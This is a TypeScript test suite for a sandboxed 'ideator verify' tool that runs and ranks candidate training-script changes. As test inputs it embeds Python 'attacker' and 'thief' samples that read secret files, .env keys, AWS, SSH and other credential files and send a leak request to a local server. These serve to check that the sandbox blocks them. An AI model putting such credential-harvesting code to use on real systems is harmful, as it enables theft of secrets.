/**
 * `ideator verify` (#16) with real Python runs in the real sandbox, driven through the editor's launcher
 * (src/extension/ideas/verify.ts) and directly: a workspace whose train.py prints val_acc from IDEATOR_SEED and
 * reads data/train.csv. Statuses and ranking against the baseline's noise (one better idea, one within the noise,
 * one crashing) on 2 slots; the data folder bound read-only; an attacker that reads outside the workspace copy and
 * uses the network is blocked; per-run timeout and the total budget; cancellation (abort, stdin closed, SIGKILL of
 * the CLI) leaves no process behind.
 */
import { strict as assert } from 'node:assert';
import { spawn, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { createInterface } from 'node:readline';
import { sandboxHost } from '../../server/src/exec/isolation';
import { codeDiff } from '../../server/src/implementer/index';
import { startOpenAIServer } from '../servers/openai';
import { stopAllVerifications, verifyIdeas, type VerifyCli } from '../../src/extension/ideas/verify';
import { HistoryStore } from '../../src/core/history';
import { ideaTypeSuccessRates } from '../../src/core/historyRows';
import type { IdeaRecord } from '../../src/core/protocol';
import type { VerifyProgress, VerifyResult } from '../../src/core/verify';
import { holdsWithin } from './serverHarness';

const REPO = resolve(__dirname, '..', '..');
const PYTHON = join(REPO, '.venv', 'bin', 'python');
const CLI: VerifyCli = { command: process.execPath, args: ['--import', 'tsx', join(REPO, 'server', 'src', 'cli.ts')], env: { IDEATOR_PYTHON: PYTHON } };
const isolated = sandboxHost().isolated;
/** Where ideator verify keeps its run folders (named PID-idea-…). */
const WORK_ROOT = join(tmpdir(), process.getuid?.() ? `ideator-verify-${process.getuid()}` : 'ideator-verify');

// Baseline seeds 0, 1, 2 print 0.81, 0.79, 0.80 (mean 0.80, std 0.01, noise threshold 0.01·√(4/3) ≈ 0.0115);
// ideas run with seed 3 (k), offset +0.005.
const TRAIN = (base: string, extra = '') =>
  [
    'import os, sys, time',
    "seed = int(os.environ.get('IDEATOR_SEED', '0'))",
    "rows = open('data/train.csv').read().splitlines()",
    "assert open('labels.csv').read() == 'y\\n1\\n0\\n' and os.listdir('shared') == ['notes.csv']",
    'offsets = [0.01, -0.01, 0.0, 0.005]',
    extra,
    "print(f'rows={len(rows)}')",
    `print(f'val_acc={${base} + offsets[seed % 4]:.4f}')`,
    '',
  ].join('\n');

function workspace(): { root: string; ws: string; secret: string } {
  const root = mkdtempSync(join(tmpdir(), 'verify-it-'));
  const ws = join(root, 'ws');
  mkdirSync(join(ws, 'data'), { recursive: true });
  writeFileSync(join(ws, 'train.py'), TRAIN('0.80'));
  writeFileSync(join(ws, 'data', 'train.csv'), 'a,b\n1,2\n3,4\n');
  // A data file at the top (bound alone, read-only) and a linked data folder (bound at its target).
  writeFileSync(join(ws, 'labels.csv'), 'y\n1\n0\n');
  mkdirSync(join(root, 'shared-data'));
  writeFileSync(join(root, 'shared-data', 'notes.csv'), 'n\n');
  symlinkSync(join(root, 'shared-data'), join(ws, 'shared'));
  const secret = join(root, 'secret.txt');
  writeFileSync(secret, 'TOP-SECRET');
  return { root, ws, secret };
}

function pgrep(pattern: string): string[] {
  const r = spawnSync('pgrep', ['-af', pattern], { encoding: 'utf8' });
  return r.stdout.split('\n').filter((l) => l.trim() && !l.includes('pgrep'));
}

describe('ideator verify', () => {
  let server: Server;
  let port: number;
  const hits: string[] = [];
  let dirs: string[] = [];
  before(async () => {
    server = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
    port = (server.address() as AddressInfo).port;
  });
  after(() => {
    server.close();
    for (const d of dirs) rmSync(d, { recursive: true, force: true });
    dirs = [];
  });

  it('ranks by measured score: better improved, a gain inside the noise within_noise, crashes failed; data read-only; an attacker blocked', { timeout: 120_000 }, async () => {
    const { root, ws, secret } = workspace();
    dirs.push(root);
    // Links with hidden names inside a data folder bound whole: not masked (a mask bound over a link lands on its
    // target, or fails the run when the target is absent), but inside the sandbox they lead nowhere the run cannot see.
    symlinkSync(secret, join(ws, 'data', '.env'));
    symlinkSync('../../secret.txt', join(ws, 'data', '.netrc'));
    const attacker = [
      'import socket, sys',
      'stolen = []',
      `for p in [${JSON.stringify(secret)}, '../secret.txt', '/root/.bash_history', 'data/.env', 'data/.netrc']:`,
      '    try:',
      '        stolen.append(open(p).read())',
      '    except Exception as e:',
      "        print('read blocked:', p, type(e).__name__)",
      'try:',
      `    s = socket.create_connection(('127.0.0.1', ${port}), timeout=3)`,
      "    s.sendall(b'GET /leak HTTP/1.0\\r\\n\\r\\n'); s.recv(10)",
      "    stolen.append('net')",
      'except Exception as e:',
      "    print('network blocked:', type(e).__name__)",
      "print('val_acc=0.99' if stolen else 'nothing stolen')",
      'sys.exit(0 if stolen else 3)',
      '',
    ].join('\n');
    const ideas = [
      { id: 'better', title: 'Raise the base', code: TRAIN('0.90') },
      { id: 'same', title: 'Add a comment', code: TRAIN('0.80', '# a harmless comment') },
      { id: 'crash', title: 'Crash', code: TRAIN('0.80', "raise ValueError('boom')") },
      { id: 'writer', title: 'Write to data', code: "open('data/train.csv', 'w').write('x')\nprint('val_acc=0.99')\n" },
      { id: 'attacker', title: 'Steal', code: attacker },
      { id: 'forger', title: 'Print a better score', code: TRAIN('0.80') + "print('val_acc=0.99')\n" },
    ];
    const progress: VerifyProgress[] = [];
    const streamed: VerifyResult[] = [];
    const store = HistoryStore.open(join(root, 'history'));
    const record = (id: string, action: string): IdeaRecord => ({
      id, createdAt: new Date().toISOString(), raw: action, type: 'Model Architecture',
      parsed: { ok: true, analysis: 'a', action, rationale: 'r', codeBlocks: [], errors: [] },
    });
    const { results, summary } = await verifyIdeas(
      { workspace: ws, command: 'python train.py', ideas, slots: 2, budgetMinutes: 3, baselineSeeds: 3, python: PYTHON },
      { cli: CLI, onProgress: (p) => progress.push(p), onResult: (r) => streamed.push(r), history: { store, ideas: new Map([['better', record('better', 'Raise the base')], ['same', record('same', 'Add a comment')], ['crash', record('crash', 'Crash')]]) } },
    );
    const by = Object.fromEntries(results.map((r) => [r.idea, r]));
    assert.deepEqual(summary.baseline.scores, [0.81, 0.79, 0.8]);
    assert.ok(Math.abs(summary.baseline.mean! - 0.8) < 1e-9 && summary.baseline.threshold > 0.011 && summary.baseline.threshold < 0.012, JSON.stringify(summary.baseline));
    assert.equal(summary.metric, 'val_acc');
    assert.equal(by.better.status, 'improved');
    assert.equal(by.better.score, 0.905);
    assert.equal(by.same.status, 'within_noise', 'a gain of 0.005 inside a noise of 0.0115 is no win');
    assert.ok(by.same.delta! > 0);
    assert.equal(by.crash.status, 'failed');
    assert.match(by.crash.error!, /ValueError: boom/);
    assert.match(by.better.diff, /^\+print\(f'val_acc=\{0\.90/m);
    // A printed score can be forged: it counts (it is what the run printed), and the guard says so.
    assert.equal(by.forger.status, 'improved');
    assert.deepEqual(by.forger.guardFlags, ['prints_metric']);
    assert.match(JSON.stringify(by.forger.guard), /val_acc=0\.99/);
    assert.deepEqual(by.better.guardFlags, []);
    assert.ok(by.attacker.guardFlags.includes('reads_outside_data'), JSON.stringify(by.attacker.guard));
    assert.deepEqual(summary.ranking.slice(0, 3), ['forger', 'better', 'same']);
    assert.deepEqual(summary.ranking.slice(3).sort(), ['attacker', 'crash', 'writer']);
    assert.equal(streamed.length, 6);
    assert.equal(progress.filter((p) => p.event === 'finished').length, 9);
    assert.equal(summary.slots, 2);
    assert.ok(summary.parallelRatio !== null && summary.runSeconds > 0);
    assert.equal(summary.cancelled, false);
    // Each verified idea with a record has its outcome in the run history; the type statistics learn from them.
    assert.deepEqual(
      store.outcomes().map((o) => `${o.ideaId} ${o.status} ${o.reward}`).sort(),
      ['better improved 1', 'crash exec_failed 0', 'same not_improved 0'],
    );
    assert.deepEqual(ideaTypeSuccessRates(store.ideas(), store.outcomes()).find((r) => r.type === 'Model Architecture'), { type: 'Model Architecture', count: 3, judged: 3, improved: 1, rate: 1 / 3 });
    // Data is bound read-only: the idea that writes to it fails, the file is unchanged (without bubblewrap runs
    // are not isolated, and the summary says so).
    assert.equal(summary.sandbox.isolated, isolated);
    if (isolated) {
      assert.equal(readFileSync(join(ws, 'data', 'train.csv'), 'utf8'), 'a,b\n1,2\n3,4\n');
      assert.equal(by.writer.status, 'failed');
      assert.match(by.writer.error!, /Read-only file system/);
      // The attacker reads nothing outside its copy and reaches no network.
      assert.equal(by.attacker.status, 'failed', by.attacker.outputTail);
      assert.match(by.attacker.outputTail, /nothing stolen/);
      assert.match(by.attacker.outputTail, /network blocked/);
      assert.deepEqual(hits, []);
      // The hidden-named links in the bound data folder: on the host they lead to the secret, in a run nowhere.
      for (const l of ['.env', '.netrc']) {
        assert.equal(readFileSync(join(ws, 'data', l), 'utf8'), 'TOP-SECRET');
        assert.match(by.attacker.outputTail, new RegExp(`read blocked: data/\\${l} FileNotFoundError`));
      }
    }
  });

  it('times a run out at --timeout-sec and the rest at the total budget', { timeout: 120_000 }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    const sleeper = "import time\nprint('val_acc=0.99', flush=True)\ntime.sleep(120)\n";
    const a = await verifyIdeas(
      { workspace: ws, command: 'python train.py', ideas: [{ id: 'slow', code: sleeper }], slots: 1, budgetMinutes: 5, baselineSeeds: 1, timeoutSec: 2 },
      { cli: CLI },
    );
    assert.equal(a.results[0].status, 'timed_out');
    assert.ok(a.results[0].seconds >= 1.9 && a.results[0].seconds < 5, String(a.results[0].seconds));
    assert.equal(a.results[0].score, null, 'a printed score of a run that did not finish does not count');

    const started = Date.now();
    const b = await verifyIdeas(
      { workspace: ws, command: 'python train.py', ideas: [{ id: 'first', code: sleeper }, { id: 'second', code: sleeper }], slots: 1, budgetMinutes: 0.1, baselineSeeds: 1 },
      { cli: CLI },
    );
    const byId = Object.fromEntries(b.results.map((r) => [r.idea, r]));
    assert.equal(byId.first.status, 'timed_out');
    assert.equal(byId.second.status, 'timed_out');
    assert.equal(byId.second.seconds, 0);
    assert.match(byId.second.error!, /budget ran out before it started/);
    assert.ok(b.summary.wallSeconds < 6 + 2, `the whole verification keeps to its 6 s budget: ${b.summary.wallSeconds}`);
    assert.ok(Date.now() - started < 20_000);
  });

  it('cancel (abort) kills every run at once and leaves no process', { timeout: 60_000 }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    const marker = `vmark${randomUUID().slice(0, 8)}`;
    const sleeper = "import time\nprint('working', flush=True)\ntime.sleep(120)\n";
    const ac = new AbortController();
    let abortedAt = 0;
    const done = verifyIdeas(
      { workspace: ws, command: `python train.py ${marker}`, ideas: [{ id: 's1', code: sleeper }, { id: 's2', code: sleeper }], slots: 2, budgetMinutes: 5, baselineSeeds: 1 },
      {
        cli: CLI,
        signal: ac.signal,
        onProgress: (p) => {
          if (p.phase === 'idea' && p.event === 'started' && p.idea === 's2') {
            setTimeout(() => {
              abortedAt = Date.now();
              ac.abort();
            }, 1500);
          }
        },
      },
    );
    assert.ok(await holdsWithin(() => pgrep(`^python train.py ${marker}`).length >= 2, 30_000), 'both runs are going');
    const { summary, results } = await done;
    assert.equal(summary.cancelled, true);
    assert.deepEqual(results, [], 'no idea is judged from a killed run');
    assert.ok(Date.now() - abortedAt < 5000, 'stopped promptly');
    assert.ok(await holdsWithin(() => pgrep(marker).length === 0, 3000), `left behind: ${pgrep(marker).join('\n')}`);
  });

  it('stopAllVerifications (the extension\'s deactivate) stops a verification still going', { timeout: 60_000 }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    const marker = `vmark${randomUUID().slice(0, 8)}`;
    let started!: () => void;
    const running = new Promise<void>((r) => (started = r));
    const done = verifyIdeas(
      { workspace: ws, command: `python train.py ${marker}`, ideas: [{ id: 'slow', code: "import time\nprint('working', flush=True)\ntime.sleep(120)\n" }], slots: 1, budgetMinutes: 5, baselineSeeds: 1 },
      { cli: CLI, onProgress: (p) => (p.idea === 'slow' && p.event === 'started' ? started() : undefined) },
    );
    await running;
    assert.ok(await holdsWithin(() => pgrep(`^python train.py ${marker}`).length === 1, 20_000), 'the run is going');
    stopAllVerifications();
    const { summary } = await done;
    assert.equal(summary.cancelled, true);
    assert.ok(await holdsWithin(() => pgrep(marker).length === 0, 3000), `left behind: ${pgrep(marker).join('\n')}`);
  });

  it('stdin closing (--watch-stdin) or a SIGKILL of the CLI itself leaves no run behind; the next verification removes what a killed one left', { timeout: 90_000 }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    writeFileSync(join(root, 'ideas.json'), JSON.stringify([{ id: 'slow', code: "import time\nprint('working', flush=True)\ntime.sleep(120)\n" }]));
    let killedPid: number | undefined;
    for (const how of ['stdin', 'sigkill'] as const) {
      const marker = `vmark${randomUUID().slice(0, 8)}`;
      const child = spawn(CLI.command, [...CLI.args, 'verify', '--json', '--watch-stdin', '--workspace', ws, '--command', `python train.py ${marker}`, '--ideas', join(root, 'ideas.json'), '--baseline-seeds', '1'], {
        env: { ...process.env, ...CLI.env },
        stdio: ['pipe', 'pipe', 'pipe'],
      });
      const exited = new Promise<number | null>((r) => child.on('close', (code) => r(code)));
      const lines = createInterface({ input: child.stdout });
      await new Promise<void>((r) => lines.on('line', (l) => (l.includes('"event":"started","idea":"slow"') ? r() : undefined)));
      assert.ok(await holdsWithin(() => pgrep(`^python train.py ${marker}`).length === 1, 20_000), `${how}: the run is going`);
      if (how === 'stdin') child.stdin.end();
      else child.kill('SIGKILL');
      const code = await exited;
      if (how === 'stdin') assert.equal(code, 130);
      assert.ok(await holdsWithin(() => pgrep(marker).length === 0, 5000), `${how}: left behind: ${pgrep(marker).join('\n')}`);
      if (how === 'sigkill') killedPid = child.pid;
    }
    // The killed CLI could not remove its run folder (a tmpfs as root): the next verification does.
    const leftover = () => readdirSync(WORK_ROOT).filter((n) => n.startsWith(`${killedPid}-`));
    assert.equal(leftover().length, 1);
    const next = await verifyIdeas({ workspace: ws, command: 'python train.py', ideas: [{ code: TRAIN('0.9') }], slots: 1, budgetMinutes: 1, baselineSeeds: 1 }, { cli: CLI });
    assert.equal(next.results[0].status, 'improved');
    assert.deepEqual(leftover(), []);
    assert.ok(!readFileSync('/proc/self/mounts', 'utf8').includes(`${WORK_ROOT}/${killedPid}-`), 'its tmpfs is unmounted');
  });

  it('implements ideas: a raw answer carrying a diff directly, one with no code through --implementer (a real OpenAI-compatible server)', { timeout: 60_000 }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    const llm = await startOpenAIServer({ responses: [{ text: 'Here is the new program:\n```python\n' + TRAIN('0.95') + '```\n' }] });
    try {
      // The code an idea carries is in its ACTION (core/idea.ts).
      const idea = (action: string, code = '') => `ANALYSIS_ON_CURRENT_PROGRESS: the score is flat.\nACTION: ${action}\n${code}\nRATIONALE: it helps.\n`;
      const diff = codeDiff('train.py', TRAIN('0.80'), TRAIN('0.85'));
      const { results, summary } = await verifyIdeas(
        {
          workspace: ws,
          command: 'python train.py',
          ideas: [
            { id: 'carried', raw: idea('Raise the base to 0.85', '```diff\n' + diff + '```\n') },
            { id: 'written', raw: idea('Raise the base to 0.95') },
          ],
          slots: 2,
          budgetMinutes: 2,
          baselineSeeds: 1,
          implementer: { kind: 'openai', model: 'implementer', baseUrl: llm.url },
        },
        { cli: { ...CLI, env: { ...CLI.env, OPENAI_API_KEY: 'test-key' } } },
      );
      const by = Object.fromEntries(results.map((r) => [r.idea, r]));
      assert.equal(by.carried.via, 'diff');
      assert.equal(by.carried.score, 0.86, 'one baseline run: ideas run unseeded (offset of seed 0)');
      assert.equal(by.carried.title, 'Raise the base to 0.85');
      assert.equal(by.written.via, 'model');
      assert.equal(by.written.score, 0.96);
      assert.equal(llm.requests.length, 1, 'only the idea without code asks the model');
      assert.match(JSON.stringify(llm.requests[0]), /Raise the base to 0\.95/);
      assert.deepEqual(summary.ranking, ['written', 'carried']);
    } finally {
      await llm.close();
    }
  });

  it('without the sandbox (IDEATOR_SANDBOX=off) it still verifies, and says first that runs are not isolated', { timeout: 60_000 }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    const warnings: string[] = [];
    const { results, summary } = await verifyIdeas(
      { workspace: ws, command: 'python train.py', ideas: [{ id: 'better', code: TRAIN('0.9') }], slots: 1, budgetMinutes: 1, baselineSeeds: 1 },
      { cli: { ...CLI, env: { ...CLI.env, IDEATOR_SANDBOX: 'off' } }, onProgress: (p) => (p.phase === 'warning' ? warnings.push(p.message) : undefined) },
    );
    assert.equal(summary.sandbox.isolated, false);
    assert.ok(summary.sandbox.missing.length > 0);
    assert.equal(warnings.length, 1);
    assert.match(warnings[0], /runs are NOT isolated on this host .*data folders are linked, not read-only/);
    // The data (a folder, a top-level file, a linked folder) is reached through links; the score is right.
    assert.equal(results[0].status, 'improved');
    assert.equal(results[0].score, 0.91);
  });

  it('the workspace\'s own .venv with an editable install (a .pth naming the project) does not bind the project, .env included, into the runs', { timeout: 90_000, skip: !isolated }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    writeFileSync(join(ws, '.env'), 'OPENAI_API_KEY=sk-in-the-workspace\n');
    const venv = spawnSync(PYTHON, ['-m', 'venv', '--without-pip', join(ws, '.venv')], { encoding: 'utf8' });
    assert.equal(venv.status, 0, venv.stderr);
    const python = join(ws, '.venv', 'bin', 'python');
    const site = spawnSync(python, ['-c', 'import site; print(site.getsitepackages()[0])'], { encoding: 'utf8' }).stdout.trim();
    // What `pip install -e .` (hatchling, setuptools' src layouts) leaves: the project folder on sys.path.
    writeFileSync(join(site, '_editable_project.pth'), ws + '\n');
    const thief = TRAIN('0.9', [
      'try:',
      `    print('stolen:', open(${JSON.stringify(join(ws, '.env'))}).read().strip())`,
      'except Exception as e:',
      "    print('read blocked:', type(e).__name__)",
    ].join('\n'));
    const warnings: string[] = [];
    const { results } = await verifyIdeas(
      { workspace: ws, command: 'python train.py', ideas: [{ id: 'thief', code: thief }], slots: 1, budgetMinutes: 1, baselineSeeds: 1, python },
      { cli: CLI, onProgress: (p) => (p.phase === 'warning' ? warnings.push(p.message) : undefined) },
    );
    assert.equal(results[0].status, 'improved', results[0].error ?? results[0].outputTail);
    assert.doesNotMatch(results[0].outputTail, /sk-in-the-workspace/);
    assert.match(results[0].outputTail, /read blocked: FileNotFoundError/);
    assert.ok(warnings.some((w) => w.includes(`the interpreter's folder ${ws} (on its sys.path) holds the workspace`)), warnings.join('\n'));
  });

  it('hidden entries and key files inside a data folder bound whole are masked: the idea reads an empty file and an empty folder', { timeout: 90_000, skip: !isolated }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    writeFileSync(join(ws, 'data', '.env'), 'OPENAI_API_KEY=sk-in-the-data\n');
    mkdirSync(join(ws, 'data', '.git'));
    writeFileSync(join(ws, 'data', '.git', 'config'), '[remote] url = https://token@example.com\n');
    writeFileSync(join(ws, 'data', 'server.pem'), 'PRIVATE KEY');
    const thief = TRAIN('0.9', [
      "print('env:', repr(open('data/.env').read()), 'git:', os.listdir('data/.git'), 'pem:', repr(open('data/server.pem').read()))",
      "print('csv:', os.path.getsize('data/train.csv'))",
    ].join('\n'));
    const { results } = await verifyIdeas({ workspace: ws, command: 'python train.py', ideas: [{ id: 'thief', code: thief }], slots: 1, budgetMinutes: 1, baselineSeeds: 1 }, { cli: CLI });
    assert.equal(results[0].status, 'improved', results[0].error ?? results[0].outputTail);
    assert.match(results[0].outputTail, /env: '' git: \[\] pem: ''/);
    assert.match(results[0].outputTail, /csv: 12/);
    assert.doesNotMatch(results[0].outputTail, /sk-in-the-data|token@|PRIVATE/);
  });

  it('credential files (kaggle.json, credentials.json, .netrc, .pypirc, .aws/, .env.local, id_rsa*, *.pem) are neither copied nor readable, at the top, deep in a data folder or behind a data link', { timeout: 90_000, skip: !isolated }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    const secrets: Record<string, string> = {
      'kaggle.json': '{"username":"u","key":"KAGGLE-SECRET"}',
      'credentials.json': '{"token":"GCLOUD-SECRET"}',
      'client_secret_123.apps.googleusercontent.com.json': '{"secret":"OAUTH-SECRET"}',
      'secrets.yaml': 'api_key: YAML-SECRET\n',
      '.netrc': 'machine x password NETRC-SECRET\n',
      '.pypirc': '[pypi]\npassword = PYPI-SECRET\n',
      '.env.local': 'OPENAI_API_KEY=ENV-SECRET\n',
      'id_rsa_deploy': 'RSA-SECRET',
      'deploy.pem': 'PEM-SECRET',
    };
    const deep = join('data', 'a', 'b', 'c', 'd', 'e', 'f', 'g');
    mkdirSync(join(ws, deep), { recursive: true });
    mkdirSync(join(ws, '.aws'));
    writeFileSync(join(ws, '.aws', 'credentials'), '[default]\naws_secret_access_key = AWS-SECRET\n');
    const paths: string[] = ['.aws/credentials'];
    for (const [name, text] of Object.entries(secrets)) {
      writeFileSync(join(ws, name), text);
      writeFileSync(join(ws, 'data', name), text);
      writeFileSync(join(ws, deep, name), text);
      writeFileSync(join(root, 'shared-data', name), text);
      paths.push(name, `data/${name}`, `${deep}/${name}`, `shared/${name}`);
    }
    writeFileSync(join(ws, 'train.py'), "print('val_acc=0.80')\n");
    const thief = [
      `paths = ${JSON.stringify(paths)}`,
      'got = []',
      'for p in paths:',
      '    try:',
      '        t = open(p).read()',
      '        if t: got.append(p + "=" + t)',
      '    except Exception:',
      '        pass',
      "print('got:', got)",
      "print('val_acc=0.9')",
      '',
    ].join('\n');
    // The thief works: run in the workspace itself, it reads every one.
    const onHost = spawnSync(PYTHON, ['-c', thief], { cwd: ws, encoding: 'utf8' });
    for (const t of ['KAGGLE-SECRET', 'GCLOUD-SECRET', 'OAUTH-SECRET', 'YAML-SECRET', 'NETRC-SECRET', 'PYPI-SECRET', 'ENV-SECRET', 'RSA-SECRET', 'PEM-SECRET', 'AWS-SECRET']) assert.match(onHost.stdout, new RegExp(t), onHost.stderr);
    const { results } = await verifyIdeas({ workspace: ws, command: 'python train.py', ideas: [{ id: 'thief', code: thief }], slots: 1, budgetMinutes: 1, baselineSeeds: 1 }, { cli: CLI });
    assert.equal(results[0].status, 'improved', results[0].error ?? results[0].outputTail);
    assert.match(results[0].outputTail, /got: \[\]/);
    assert.doesNotMatch(results[0].outputTail, /SECRET/);
  });

  it('--score best (the editor\'s ideator.runScore) judges each run by its best epoch, as the history does; last by default', { timeout: 90_000 }, async () => {
    const { root, ws } = workspace();
    dirs.push(root);
    // The baseline peaks at epoch 1 (0.90) and ends at 0.80; the idea ends (and peaks) at 0.85.
    writeFileSync(join(ws, 'train.py'), "print('val_acc=0.90')\nprint('val_acc=0.80')\n");
    const idea = [{ id: 'steady', code: "print('val_acc=0.85')\n" }];
    const run = (score?: 'last' | 'best') => verifyIdeas({ workspace: ws, command: 'python train.py', ideas: idea, slots: 1, budgetMinutes: 1, baselineSeeds: 1, ...(score ? { score } : {}) }, { cli: CLI });
    const last = await run();
    assert.equal(last.summary.baseline.mean, 0.8);
    assert.equal(last.results[0].status, 'improved');
    const best = await run('best');
    assert.equal(best.summary.baseline.mean, 0.9);
    assert.equal(best.results[0].status, 'worse');
    assert.equal(best.results[0].score, 0.85);
    const bad = spawnSync(CLI.command, [...CLI.args, 'verify', '--workspace', ws, '--command', 'python train.py', '--ideas', 'x.json', '--score', 'max'], { encoding: 'utf8' });
    assert.equal(bad.status, 2);
    assert.equal(bad.stderr.trim(), "ideator verify: --score must be last or best, got 'max'");
  });

  it('a refused input rejects with the CLI\'s one-line reason', { timeout: 30_000 }, async () => {
    await assert.rejects(
      verifyIdeas({ workspace: '/nonexistent/ws', command: 'python train.py', ideas: [{ code: 'x' }], slots: 1, budgetMinutes: 1 }, { cli: CLI }),
      /no such folder: \/nonexistent\/ws/,
    );
    // The CLI itself: a user error is one line on stderr and exit 2.
    const r = spawnSync(CLI.command, [...CLI.args, 'verify', '--workspace', REPO, '--ideas', 'x.json'], { encoding: 'utf8' });
    assert.equal(r.status, 2);
    assert.equal(r.stderr.trim().split('\n').length, 1);
    assert.match(r.stderr, /--command CMD is required/);
  });
});
